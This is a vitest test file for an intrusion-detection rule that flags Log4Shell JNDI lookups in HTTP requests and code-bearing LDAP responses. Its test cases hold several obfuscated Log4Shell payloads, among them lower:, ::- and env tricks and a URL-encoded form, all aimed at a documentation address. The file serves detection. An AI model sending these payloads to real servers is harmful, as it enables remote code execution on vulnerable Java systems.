// Proves that Log4Shell is told wherever it stands and however it hides, and so is the answer that brings code.

import { describe, expect, it } from 'vitest';
import { Stage } from '../golden/stage.ts';
import { asksDirectory, log4shell } from './log4shell.ts';

const request = (more: object) => ({ method: 'GET', target: '/', shownTarget: '/', ...more });

/** Dollar signs written otherwise, since a brace behind one looks like a template. */
const lookups = (text: string): string => text.replaceAll('§', '$');

describe('web.log4shell', () => {
  it.each([
    '§{jndi:ldap://192.0.2.1/a}',
    '§{jndi:§{lower:l}§{lower:d}a§{lower:p}://192.0.2.1/a}',
    '§{§{::-j}§{::-n}§{::-d}§{::-i}:§{::-r}§{::-m}§{::-i}://192.0.2.1/a}',
    '§{§{env:NaN:-j}ndi§{env:NaN:-:}§{env:NaN:-l}dap§{env:NaN:-:}//192.0.2.1/a}',
    '%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D',
  ])('hit: %s', (text) => {
    expect(asksDirectory(lookups(text))).toBe(true);
  });

  it.each(['§{java:version}', '$100 {jndi}', 'jndi:ldap://x', '§{', '%24%7Bname%7D'])('miss: %s', (text) => {
    expect(asksDirectory(lookups(text))).toBe(false);
  });

  it('hit: in the target, a header, a body: one alert', () => {
    const bad = lookups('§{jndi:dns://192.0.2.1/a}');
    const stage = new Stage(log4shell)
      .event('http_request', request({ target: `/?x=${bad}` }))
      .event('http_request', request({ odd: `X-Api: ${bad}\n` }))
      .event('http_request', request({ body: `user=${bad}` }));
    expect(stage.alerts.map(({ severity, packet, count }) => [severity, packet, count])).toEqual([['high', 1, 2]]);
  });

  it('hit: a directory that tells to load code; miss: one that tells a name', () => {
    const entry = (type: string) => ({
      responses: [{ search_result_entry: { attributes: [{ type: 'cn' }, { type }] } }, null, { other: 1 }],
    });
    const stage = new Stage(log4shell).event('ldap', entry('mail'), { only: 'eve' }).event('ldap', {}, { only: 'eve' });
    expect(stage.alerts).toEqual([]);
    expect(stage.event('ldap', entry('javaCodeBase'), { only: 'eve' }).alerts[0].severity).toBe('critical');
  });
});
